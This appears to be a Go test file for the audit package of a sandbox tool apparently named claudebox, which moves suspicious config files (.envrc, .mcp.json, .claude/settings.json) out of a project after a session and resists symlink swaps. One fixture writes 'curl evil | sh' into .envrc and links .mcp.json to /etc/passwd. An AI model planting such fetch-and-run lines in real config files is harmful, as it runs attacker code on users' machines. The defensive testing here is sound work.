package audit

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/claudebox/claudebox/internal/unprivileged"
)

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// otherFS is a directory on another filesystem than t.TempDir(), where a
// rename from one to the other fails with EXDEV: the project on a second
// disk or a tmpfs, claudebox's state in $HOME.
func otherFS(t *testing.T) string {
	t.Helper()
	var a, b unix.Stat_t
	must(t, unix.Stat(t.TempDir(), &a))
	if unix.Stat("/dev/shm", &b) != nil || a.Dev == b.Dev {
		t.Skip("no /dev/shm on a filesystem of its own")
	}
	dir, err := os.MkdirTemp("/dev/shm", "audit-test")
	must(t, err)
	t.Cleanup(func() { os.RemoveAll(dir) })
	return dir
}

// within fails the test if f does not return soon.
func within(t *testing.T, what string, f func()) {
	t.Helper()
	done := make(chan struct{})
	go func() { defer close(done); f() }()
	select {
	case <-done:
	case <-time.After(20 * time.Second):
		t.Fatalf("%s hangs", what)
	}
}

// TestMoveAsideAcrossFilesystems: into a state directory on another
// filesystem, a finding is copied and removed: a file with its content, a
// link as a link, a directory with what is in it (also one the session
// made mode 000); a FIFO is dropped, without blocking on it.
func TestMoveAsideAcrossFilesystems(t *testing.T) {
	root, dest := otherFS(t), t.TempDir()
	must(t, os.WriteFile(filepath.Join(root, ".envrc"), []byte("curl evil | sh\n"), 0o755))
	must(t, os.Symlink("/etc/passwd", filepath.Join(root, ".mcp.json")))
	must(t, unix.Mkfifo(filepath.Join(root, ".npmrc"), 0o600))
	must(t, os.MkdirAll(filepath.Join(root, "hidden", ".claude"), 0o700))
	must(t, os.WriteFile(filepath.Join(root, "hidden", ".claude", "settings.json"), []byte(`{"hooks":{}}`), 0o600))
	must(t, os.Symlink("settings.json", filepath.Join(root, "hidden", ".claude", "link")))
	must(t, os.Chmod(filepath.Join(root, "hidden", ".claude"), 0))
	must(t, os.Chmod(filepath.Join(root, "hidden"), 0))
	findings := []string{".envrc", ".mcp.json", ".npmrc", "hidden"}
	var paths []string
	for _, f := range findings {
		paths = append(paths, filepath.Join(root, f))
	}
	var moved []Moved
	var err error
	within(t, "MoveAside", func() { moved, err = MoveAside(root, dest, paths) })
	if err != nil || len(moved) != len(findings) {
		t.Fatalf("moved %v, %v", moved, err)
	}
	for _, f := range findings {
		if _, err := os.Lstat(filepath.Join(root, f)); err == nil {
			t.Errorf("%s is still in the project", f)
		}
	}
	if b, err := os.ReadFile(filepath.Join(dest, ".envrc")); err != nil || string(b) != "curl evil | sh\n" {
		t.Errorf(".envrc: %q, %v", b, err)
	}
	if fi, err := os.Lstat(filepath.Join(dest, ".envrc")); err != nil || fi.Mode().Perm() != 0o700 {
		t.Errorf(".envrc's mode: %v, %v", fi, err)
	}
	if target, err := os.Readlink(filepath.Join(dest, ".mcp.json")); err != nil || target != "/etc/passwd" {
		t.Errorf(".mcp.json: %q, %v", target, err)
	}
	if b, err := os.ReadFile(filepath.Join(dest, "hidden", ".claude", "settings.json")); err != nil || string(b) != `{"hooks":{}}` {
		t.Errorf("the directory's content: %q, %v", b, err)
	}
	if target, err := os.Readlink(filepath.Join(dest, "hidden", ".claude", "link")); err != nil || target != "settings.json" {
		t.Errorf("the directory's link: %q, %v", target, err)
	}
}

// TestMoveAsideSparse: a huge sparse file the session left is not copied
// into claudebox's state across filesystems (it would take hours and fill
// the disk); it is renamed beside itself, to a name nothing obeys, and
// the rest still go.
func TestMoveAsideSparse(t *testing.T) {
	root, dest := otherFS(t), t.TempDir()
	f, err := os.Create(filepath.Join(root, ".envrc"))
	must(t, err)
	must(t, f.Truncate(1<<40))
	f.Close()
	must(t, os.WriteFile(filepath.Join(root, ".npmrc"), []byte("x"), 0o600))
	var moved []Moved
	within(t, "MoveAside", func() {
		moved, err = MoveAside(root, dest, []string{filepath.Join(root, ".envrc"), filepath.Join(root, ".npmrc")})
	})
	beside := filepath.Join(root, ".envrc.claudebox-aside-"+filepath.Base(dest))
	want := []Moved{{filepath.Join(root, ".envrc"), beside}, {filepath.Join(root, ".npmrc"), filepath.Join(dest, ".npmrc")}}
	if err != nil || !slices.Equal(moved, want) {
		t.Fatalf("moved %v, %v", moved, err)
	}
	if fi, err := os.Lstat(beside); err != nil || fi.Size() != 1<<40 {
		t.Errorf("the huge file beside itself: %v, %v", fi, err)
	}
	if _, err := os.Lstat(filepath.Join(root, ".envrc")); err == nil {
		t.Error("the huge file is still at its name")
	}
	if fi, err := os.Stat(filepath.Join(dest, ".envrc")); err == nil {
		t.Errorf("a copy of %d bytes is left in the state", fi.Size())
	}
}

// TestMoveAsideModeZero: a directory the session took its owner's
// permissions from is moved all the same, also when claudebox runs as
// root (which would not need them).
func TestMoveAsideModeZero(t *testing.T) {
	root, dest := t.TempDir(), t.TempDir()
	must(t, os.MkdirAll(filepath.Join(root, "web", ".claude"), 0o700))
	must(t, os.Chmod(filepath.Join(root, "web"), 0))
	var moved []Moved
	var err error
	unprivileged.Do(t, func() { moved, err = MoveAside(root, dest, []string{filepath.Join(root, "web")}) })
	if err != nil || len(moved) != 1 {
		t.Fatalf("moved %v, %v", moved, err)
	}
	if _, err := os.Lstat(filepath.Join(dest, "web", ".claude")); err != nil {
		t.Error(err)
	}
}

// TestMoveAsideStaysInside: a path outside the project is never moved,
// and one that cannot be moved does not stop the others.
func TestMoveAsideStaysInside(t *testing.T) {
	base := t.TempDir()
	root, dest := filepath.Join(base, "proj"), t.TempDir()
	must(t, os.MkdirAll(root, 0o700))
	for _, f := range []string{"secret", "proj/.envrc"} {
		must(t, os.WriteFile(filepath.Join(base, f), []byte("x"), 0o600))
	}
	moved, err := MoveAside(root, dest, []string{
		filepath.Join(base, "secret"), root + "/../secret", root, filepath.Join(root, "gone"), filepath.Join(root, ".envrc"),
	})
	// The project's top cannot be moved: an error; "gone" is not there to move.
	if len(moved) != 1 || moved[0].From != filepath.Join(root, ".envrc") || err == nil || strings.Contains(err.Error(), "gone") {
		t.Errorf("moved %v, %v", moved, err)
	}
	if _, err := os.Lstat(filepath.Join(base, "secret")); err != nil {
		t.Errorf("a path outside the project was moved: %v", err)
	}
}

// TestMoveAsideNoSymlinkAbove: a finding whose directory became a symlink
// to the user's files after the walk (another project's session swapped
// it) is not moved through the link, and what the link names stays.
func TestMoveAsideNoSymlinkAbove(t *testing.T) {
	base := t.TempDir()
	root, dest := filepath.Join(base, "proj"), t.TempDir()
	mine := filepath.Join(base, "home", ".claude", "settings.json")
	must(t, os.MkdirAll(filepath.Dir(mine), 0o700))
	must(t, os.MkdirAll(root, 0o700))
	must(t, os.WriteFile(mine, []byte("the user's"), 0o600))
	must(t, os.Symlink(filepath.Join(base, "home"), filepath.Join(root, "sub")))
	moved, err := MoveAside(root, dest, []string{filepath.Join(root, "sub", ".claude", "settings.json"), filepath.Join(root, "sub", ".claude")})
	if len(moved) != 0 || err == nil {
		t.Errorf("moved %v, %v", moved, err)
	}
	if b, err := os.ReadFile(mine); err != nil || string(b) != "the user's" {
		t.Errorf("the file the link names: %q, %v", b, err)
	}
}

// TestRootThroughSymlink: a session of a project around this one swaps a
// directory above this project's root for a symlink to the user's files
// (~/code/x/a/proj with a -> ~) once the session ends: the exit audit then
// walked, and moved aside from, the user's home as if it were the
// project, what changed there since the start. Neither follows a symlink
// on the way to the root.
func TestRootThroughSymlink(t *testing.T) {
	base := t.TempDir()
	home, a := filepath.Join(base, "home"), filepath.Join(base, "x", "a")
	root := filepath.Join(a, "proj")
	must(t, os.MkdirAll(root, 0o700))
	since := mark(t, t.TempDir())
	start := Take(root, since, nil, nil)
	mine := filepath.Join(home, "proj", ".claude", "settings.json")
	must(t, os.MkdirAll(filepath.Dir(mine), 0o700))
	must(t, os.WriteFile(mine, []byte("the user's"), 0o600))
	must(t, os.Rename(a, a+".real"))
	must(t, os.Symlink(home, a))
	r := Scan(root, since, nil, start, nil)
	if len(r.Found) != 0 || len(r.NotExamined) == 0 {
		t.Errorf("the walk went through the link: found %q, not examined %q", r.Found, r.NotExamined)
	}
	moved, err := MoveAside(root, t.TempDir(), []string{filepath.Join(root, ".claude")})
	if len(moved) != 0 || err == nil {
		t.Errorf("moved %v, %v", moved, err)
	}
	if b, err := os.ReadFile(mine); err != nil || string(b) != "the user's" {
		t.Errorf("the user's file: %q, %v", b, err)
	}
}

// TestMoveAsideNamesProjectPath: what could not be moved (its directory
// another's, which claudebox may not change) is named by its path in the
// project, not by the descriptor the move went through.
func TestMoveAsideNamesProjectPath(t *testing.T) {
	root, dest := t.TempDir(), t.TempDir()
	write(t, filepath.Join(root, "a", ".envrc"))
	must(t, os.Chown(filepath.Join(root, "a"), 65534, 65534))
	var err error
	unprivileged.Do(t, func() { _, err = MoveAside(root, dest, []string{filepath.Join(root, "a", ".envrc")}) })
	if err == nil || !strings.Contains(err.Error(), filepath.Join(root, "a", ".envrc")) || strings.Contains(err.Error(), "/proc/") {
		t.Errorf("the error: %v", err)
	}
}
